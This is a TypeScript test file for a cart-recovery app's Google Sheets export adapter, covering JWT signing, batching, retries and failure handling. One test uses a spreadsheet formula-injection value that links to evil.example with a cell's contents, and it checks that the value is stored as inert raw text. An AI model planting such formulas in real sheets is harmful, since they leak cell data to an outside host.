import { generateKeyPairSync, verify } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  createGoogleSheet,
  GOOGLE_SCOPES,
  GoogleApiError,
  type GoogleSheetOptions,
} from '../../src/adapters/sheets/google-sheet.ts';
import { SHEET_HEADER } from '../../src/domain/sheet-row.ts';
import { type SheetsStandin, startSheetsStandin } from '../support/sheets-standin.ts';
import { rowsOf, runSheetContract, sampleRow } from './sheet.contract.ts';

// A throwaway key pair, made per run: no key is ever committed.
const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const PRIVATE_PEM = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
const CLIENT_EMAIL = 'exporter@cart-recovery.iam.gserviceaccount.com';
const FOLDER = "folder-1 'owner's'";

function sheetFor(standin: SheetsStandin, extra: Partial<GoogleSheetOptions> = {}) {
  return createGoogleSheet({
    credentials: { clientEmail: CLIENT_EMAIL, privateKey: PRIVATE_PEM },
    folderId: FOLDER,
    tokenUrl: standin.tokenUrl,
    driveBaseUrl: standin.driveBaseUrl,
    sheetsBaseUrl: standin.sheetsBaseUrl,
    retryDelaysMs: [0, 0],
    ...extra,
  });
}

function valuesOf(standin: SheetsStandin, day: string): unknown[][] {
  const found = [...standin.spreadsheets.values()].filter(
    (s) => s.name === `Carts ${day}` && s.parents.includes(FOLDER),
  );
  if (found.length !== 1) throw new Error(`${found.length} spreadsheets for ${day}`);
  return found[0]?.values ?? [];
}

async function makeGoogle(extra: Partial<GoogleSheetOptions> = {}) {
  const standin = await startSheetsStandin(publicKey);
  return {
    standin,
    sheet: sheetFor(standin, extra),
    readBack: async (day: string) => valuesOf(standin, day),
    countSheets: async () => standin.spreadsheets.size,
    close: () => standin.close(),
  };
}

runSheetContract({
  name: 'Google Sheet (local stand-in)',
  make: () => makeGoogle({ batchSize: 300 }),
  hostileText: (text) => text,
  atomicReplace: false,
});

const decode = (part: string | undefined): Record<string, unknown> =>
  JSON.parse(Buffer.from(part ?? '', 'base64url').toString('utf8'));

describe('Google Sheet specifics', () => {
  it('signs a well-formed service-account JWT and reuses the token it buys', async () => {
    const subject = await makeGoogle({ now: () => Date.UTC(2026, 10, 24, 2, 0, 0) });
    try {
      await subject.sheet.writeDay('2026-11-23', rowsOf([sampleRow(1)]));
      await subject.sheet.writeDay('2026-11-23', rowsOf([sampleRow(2)]));
      expect(subject.standin.assertions).toHaveLength(1);
      const [header, claims, signature] = (subject.standin.assertions[0] ?? '').split('.');
      expect(decode(header)).toEqual({ alg: 'RS256', typ: 'JWT' });
      const iat = Date.UTC(2026, 10, 24, 2, 0, 0) / 1000;
      expect(decode(claims)).toEqual({
        iss: CLIENT_EMAIL,
        scope: GOOGLE_SCOPES,
        aud: subject.standin.tokenUrl,
        iat,
        exp: iat + 3600,
      });
      const signed = Buffer.from(`${header}.${claims}`);
      const sig = Buffer.from(signature ?? '', 'base64url');
      expect(verify('RSA-SHA256', signed, publicKey, sig)).toBe(true);
    } finally {
      await subject.close();
    }
  });

  it('fails with the status when the token is refused (a key that is not the account key)', async () => {
    const other = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
    const standin = await startSheetsStandin(publicKey);
    try {
      const sheet = createGoogleSheet({
        credentials: {
          clientEmail: CLIENT_EMAIL,
          // As pasted into an env var: escaped line breaks, which the adapter restores.
          privateKey: other
            .export({ type: 'pkcs8', format: 'pem' })
            .toString()
            .replaceAll('\n', '\\n'),
        },
        folderId: FOLDER,
        tokenUrl: standin.tokenUrl,
        driveBaseUrl: standin.driveBaseUrl,
        sheetsBaseUrl: standin.sheetsBaseUrl,
      });
      const failure = await sheet.writeDay('2026-11-23', rowsOf([])).catch((e: unknown) => e);
      expect(failure).toBeInstanceOf(GoogleApiError);
      expect((failure as GoogleApiError).status).toBe(400);
      expect(standin.spreadsheets.size).toBe(0);
    } finally {
      await standin.close();
    }
  });

  it('creates the day spreadsheet once, in the folder, and writes every value RAW', async () => {
    const subject = await makeGoogle();
    try {
      const hostile = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';
      await subject.sheet.writeDay('2026-11-23', rowsOf([sampleRow(1, { items: hostile })]));
      await subject.sheet.writeDay('2026-11-23', rowsOf([sampleRow(2, { items: hostile })]));

      const creates = subject.standin.requests.filter(
        (r) => r.method === 'POST' && r.path === '/drive/v3/files',
      );
      expect(creates).toHaveLength(1);
      expect(JSON.parse(creates[0]?.rawBody ?? '{}')).toEqual({
        name: 'Carts 2026-11-23',
        mimeType: 'application/vnd.google-apps.spreadsheet',
        parents: [FOLDER],
      });

      const writes = subject.standin.requests.filter((r) => r.method === 'PUT');
      expect(writes).toHaveLength(2);
      for (const write of writes) {
        expect(write.query.get('valueInputOption')).toBe('RAW');
        const body = JSON.parse(write.rawBody) as { values: unknown[][] };
        // The shopper's text travels as the plain string, no quote prefix, no formula object.
        expect(body.values[1]?.[SHEET_HEADER.indexOf('Items')]).toBe(hostile);
      }
      const [, row] = valuesOf(subject.standin, '2026-11-23');
      expect(row?.[0]).toBe('c_2');
      expect(row?.[SHEET_HEADER.indexOf('Items')]).toBe(hostile);
      expect(row?.[SHEET_HEADER.indexOf('Total')]).toBe(86.5);
      expect(row?.[SHEET_HEADER.indexOf('Recovered')]).toBe('No');
      expect(row?.[SHEET_HEADER.indexOf('Last activity (UTC)')]).toBe('2026-11-23 07:58:02');
    } finally {
      await subject.close();
    }
  });

  it('writes in batches at consecutive rows', async () => {
    const subject = await makeGoogle({ batchSize: 400 });
    try {
      const rows = Array.from({ length: 1000 }, (_, i) => sampleRow(i));
      await subject.sheet.writeDay('2026-11-23', rowsOf(rows));
      const writes = subject.standin.requests.filter((r) => r.method === 'PUT');
      expect(writes.map((w) => decodeURIComponent(w.path.split('/').pop() ?? ''))).toEqual([
        'A1',
        'A401',
        'A801',
      ]);
      expect(
        writes.map((w) => (JSON.parse(w.rawBody) as { values: unknown[] }).values.length),
      ).toEqual([400, 400, 201]);
    } finally {
      await subject.close();
    }
  });

  it('retries a 503 and then succeeds; gives up after its retries with the status', async () => {
    const subject = await makeGoogle();
    try {
      subject.standin.failNext(503, 2);
      await subject.sheet.writeDay('2026-11-23', rowsOf([sampleRow(1)]));
      expect(valuesOf(subject.standin, '2026-11-23')).toHaveLength(2);

      subject.standin.failNext(503, 3);
      await expect(subject.sheet.writeDay('2026-11-23', rowsOf([]))).rejects.toMatchObject({
        name: 'GoogleApiError',
        status: 503,
      });
    } finally {
      await subject.close();
    }
  });

  it('leaves the previous rows when the source fails before the first batch', async () => {
    const subject = await makeGoogle();
    try {
      await subject.sheet.writeDay('2026-11-23', rowsOf([sampleRow(1)]));
      async function* failing() {
        yield sampleRow(9);
        throw new Error('database went away');
      }
      await expect(subject.sheet.writeDay('2026-11-23', failing())).rejects.toThrow(/went away/);
      expect(valuesOf(subject.standin, '2026-11-23')[1]?.[0]).toBe('c_1');
    } finally {
      await subject.close();
    }
  });
});
